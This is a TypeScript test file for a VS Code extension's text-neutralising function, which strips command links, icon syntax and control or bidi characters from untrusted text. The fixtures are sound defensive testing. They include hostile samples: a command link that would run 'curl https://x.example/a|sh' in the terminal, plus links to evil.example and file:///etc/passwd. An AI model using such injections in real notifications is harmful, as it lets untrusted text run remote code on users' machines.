/**
 * neutralise(): text from a cloud, a document or the workspace, made safe for notifications, the status bar,
 * tree labels and quick picks. No link VS Code's notification parser would find, no `$(icon)` the status bar or
 * a quick pick would draw, no control, C1 or bidi character, one line, bounded length.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { hasNotificationLink, neutralise, NOTIFICATION_LINK } from '../../../src/util/neutralise.js';

/** A link that survives VS Code's pattern (no whitespace in the target: JSON escapes stand for the spaces). */
const CURL = '[Show details](command:workbench.action.terminal.sendSequence?{"text":"curl\\u0020https://x.example/a|sh\\r"})';

/** VS Code's renderLabelWithIcons pattern (src/vs/base/browser/ui/iconLabel/iconLabels.ts): unescaped `$(name)`. */
function drawnIcons(text: string): string[] {
  const out: string[] = [];
  for (const m of text.matchAll(/(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g)) if (!m[1]) out.push(m[2]!);
  return out;
}

const HOSTILE = [
  CURL,
  '[a](https://evil.example)',
  '[a](file:///etc/passwd)',
  '[a](COMMAND:workbench.action.quit)',
  '\\[a\\](command:workbench.action.quit)',
  '[a](command:x "title")',
  "[a](command:x 'title')",
  '[a]\u202e(command:x)',
  '[a]\u0085(command:x)',
  '[a]\n(command:x)',
  '[a [b](command:x)',
  '[a](command:x)[b](command:y)',
];

test('no hostile text keeps a notification link', () => {
  for (const h of HOSTILE) {
    assert.equal(hasNotificationLink(h.replace(/[\u202e\u0085\n]/g, '')) || h.includes('\\['), true, `sample is a link: ${h}`);
    const n = neutralise(h);
    assert.equal(hasNotificationLink(n), false, `${JSON.stringify(h)} → ${JSON.stringify(n)}`);
    assert.equal(hasNotificationLink(neutralise(h, { icons: false })), false);
  }
});

test('the pattern is VS Code\'s and finds what it finds', () => {
  assert.ok(hasNotificationLink('see [docs](https://example.com/a "t")'));
  assert.ok(hasNotificationLink(CURL));
  assert.ok(!hasNotificationLink('[docs] (https://example.com)'));
  // Repeated calls do not depend on the global regex's lastIndex.
  assert.ok(hasNotificationLink(CURL) && hasNotificationLink(CURL));
  assert.equal(NOTIFICATION_LINK.lastIndex, 0);
});

test('the text stays readable: brackets and parentheses kept, only `](` spaced', () => {
  assert.equal(neutralise('[x](command:y)'), '[x] (command:y)');
  assert.equal(neutralise('Code [InvalidParameter] (see docs)'), 'Code [InvalidParameter] (see docs)');
  assert.equal(neutralise('plain text'), 'plain text');
});

test('icons escaped by default, kept as text for surfaces without icons', () => {
  assert.equal(neutralise('$(zap) go'), '\\$(zap) go');
  assert.deepEqual(drawnIcons(neutralise('$(zap) $(sync~spin) $(x')), []);
  assert.deepEqual(drawnIcons(neutralise('\\$(zap)')), [], 'an already escaped icon stays text');
  assert.deepEqual(drawnIcons(neutralise('\\\\$(zap)')), []);
  assert.equal(neutralise('$(zap)', { icons: false }), '$(zap)');
  assert.deepEqual(drawnIcons('$(zap)'), ['zap'], 'the check sees icons');
});

test('control, C1 and bidi characters removed, line breaks and tabs one space', () => {
  const s = neutralise('a\u001b[31mb\u009bc\u202ed\u2066e\u200ff\u061cg\u0000h\u007fi\r\n\tj\u2028k');
  assert.equal(s, 'a[31mbcdefghi j k');
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(s, /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
});

test('maxLength cuts with an ellipsis, not inside a surrogate pair nor after an escaping backslash', () => {
  assert.equal(neutralise('abcdef', { maxLength: 4 }), 'abc…');
  assert.equal(neutralise('abc', { maxLength: 3 }), 'abc');
  assert.equal(neutralise('a😀b', { maxLength: 3 }), 'a…');
  for (let n = 3; n < 9; n++) assert.equal(neutralise('ab$(zap)', { maxLength: n }), 'ab…', `cut at ${n}`);
  assert.equal(neutralise('ab$(zap)', { maxLength: 9 }), 'ab\\$(zap)');
  assert.equal(neutralise('ab$(zap', { maxLength: 6 }), 'ab$(z…', 'not an icon: nothing escaped');
  assert.equal(neutralise('$(', {}), '$(');
  assert.ok(neutralise('x'.repeat(1000), { maxLength: 0 }).length <= 1);
  for (let n = 1; n < 40; n++) {
    const r = neutralise(`${CURL} $(zap) 😀`, { maxLength: n });
    assert.ok(r.length <= n, `${n}: ${r}`);
    assert.equal(hasNotificationLink(r), false);
    assert.deepEqual(drawnIcons(`${r}$(check)`), ['check'], 'a cut never leaves a backslash that escapes what follows');
  }
});

test('neutralising twice stays safe', () => {
  for (const h of [...HOSTILE, '$(zap)']) {
    const twice = neutralise(neutralise(h));
    assert.equal(hasNotificationLink(twice), false);
    assert.deepEqual(drawnIcons(twice), []);
  }
});

test('non-strings are made strings', () => {
  assert.equal(neutralise(42 as unknown as string), '42');
});
